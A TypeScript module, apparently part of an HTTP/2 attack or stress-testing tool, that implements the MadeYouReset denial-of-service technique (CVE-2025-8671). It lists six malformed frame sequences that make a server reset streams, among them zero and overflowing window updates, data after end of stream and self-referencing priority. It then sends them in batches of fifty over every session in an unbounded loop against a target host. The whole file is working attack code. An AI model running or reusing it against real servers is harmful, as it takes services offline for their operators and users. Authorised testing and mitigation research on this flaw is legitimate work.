import { eachSession } from '../each-session.ts';
import { data, flags, frame, frameTypes, headers, priority, uint32, windowUpdate } from '../frames.ts';
import { connectBlock } from '../hpack.ts';
import type { Job, Outcome } from '../job.ts';

const { endHeaders, endStream } = flags;
const most = 2 ** 31 - 1;

/** What makes a server reset a stream that it has just begun to serve (CVE-2025-8671). */
const primitives: Readonly<Record<string, (stream: number, block: Buffer) => readonly Buffer[]>> = {
  'window update of 0': (stream, block) => [headers(stream, block), windowUpdate(stream, 0)],
  'window overflow': (stream, block) => [
    headers(stream, block),
    windowUpdate(stream, most),
    windowUpdate(stream, most),
  ],
  'data after the end': (stream, block) => [
    headers(stream, block, endHeaders | endStream),
    data(stream, Buffer.alloc(1)),
  ],
  'headers after the end': (stream, block) => [
    headers(stream, block, endHeaders | endStream),
    headers(stream, block),
  ],
  'priority of itself': (stream, block) => [headers(stream, block), priority(stream, stream)],
  'priority of a wrong length': (stream, block) => [
    headers(stream, block),
    frame(frameTypes.priority, 0, stream, uint32(0)),
  ],
};

export const madeYouResetVariants = Object.keys(primitives);

const atOnce = 50;

export function madeYouReset(job: Job): Promise<Outcome> {
  const block = connectBlock(job.authority);
  const primitive = primitives[job.variant ?? ''];
  if (!primitive) throw new Error(`there is no primitive ${job.variant}`);
  return eachSession(job, async (session, over) => {
    let stream = 1;
    while (!over()) {
      const batch: Buffer[] = [];
      for (let i = 0; i < atOnce; i++, stream += 2) batch.push(...primitive(stream, block));
      if (!(await session.send(Buffer.concat(batch)))) return;
      session.sent += atOnce;
    }
  });
}
